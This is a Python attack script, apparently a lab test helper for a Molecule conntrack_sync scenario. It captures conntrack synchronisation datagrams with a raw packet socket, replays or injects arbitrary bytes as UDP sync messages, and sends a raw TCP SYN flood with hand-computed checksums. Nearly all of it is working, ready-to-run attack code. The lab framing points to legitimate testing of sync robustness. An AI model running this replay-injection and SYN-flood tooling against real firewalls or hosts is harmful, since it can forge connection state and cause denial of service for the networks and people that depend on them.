"""Attacks on the conntrack sync (Molecule conntrack_sync, lab namespaces only). Standard library only.

capture IFACE SRC PORT MARK OUT   save the payload of the first UDP datagram from SRC to PORT on IFACE
                                  whose payload holds the 2 bytes of port MARK (a sync message of that flow)
send FILE DEST:PORT [BIND]        send FILE's bytes as one UDP datagram (an error is printed, not raised:
                                  an attacker just tries)
synburst DEST COUNT               COUNT TCP SYNs to DEST:80 from source ports 20000.. (raw socket, needs root
                                  in the namespace it runs in)
"""

import socket
import struct
import sys
import time


def capture(iface, src, port, mark, out, timeout=30):
    """AF_PACKET on IFACE (root): Ethernet, IPv4 without options checked, UDP."""
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    sock.bind((iface, 0))
    sock.settimeout(timeout)
    wanted = socket.inet_aton(src)
    needle = struct.pack('!H', int(mark))
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        frame = sock.recv(65535)
        ip = frame[14:]
        header = (ip[0] & 0x0F) * 4
        if ip[9] != 17 or ip[12:16] != wanted:
            continue
        udp = ip[header:]
        if struct.unpack('!H', udp[2:4])[0] == int(port) and needle in udp[8:]:
            with open(out, 'wb') as handle:
                handle.write(udp[8:])
            return 0
    return 1


def send(path, dest, bind=None):
    with open(path, 'rb') as handle:
        data = handle.read()
    host, port = dest.rsplit(':', 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        try:
            if bind:
                sock.bind((bind, 0))
            sock.sendto(data, (host, int(port)))
            print('sent %d bytes to %s' % (len(data), dest))
            time.sleep(0.5)  # the socket stays while the relay looks its owner up, as conntrackd's does
        except OSError as exc:
            print('not sent to %s: %s' % (dest, exc))
    return 0


def checksum(data):
    if len(data) % 2:
        data += b'\0'
    total = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    return ~total & 0xFFFF


def synburst(dest, count):
    """COUNT SYNs, each from its own source port, about 2,000 a second."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect((dest, 80))
        source = probe.getsockname()[0]
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    pseudo = socket.inet_aton(source) + socket.inet_aton(dest) + struct.pack('!BBH', 0, 6, 20)
    for number in range(int(count)):
        segment = struct.pack('!HHIIBBHHH', 20000 + number, 80, number, 0, 5 << 4, 0x02, 64240, 0, 0)
        segment = segment[:16] + struct.pack('!H', checksum(pseudo + segment)) + segment[18:]
        sock.sendto(segment, (dest, 0))
        if number % 100 == 99:
            time.sleep(0.05)
    print('sent %s SYNs from %s to %s:80' % (count, source, dest))
    return 0


if __name__ == '__main__':
    sys.exit({'capture': capture, 'send': send, 'synburst': synburst}[sys.argv[1]](*sys.argv[2:]))
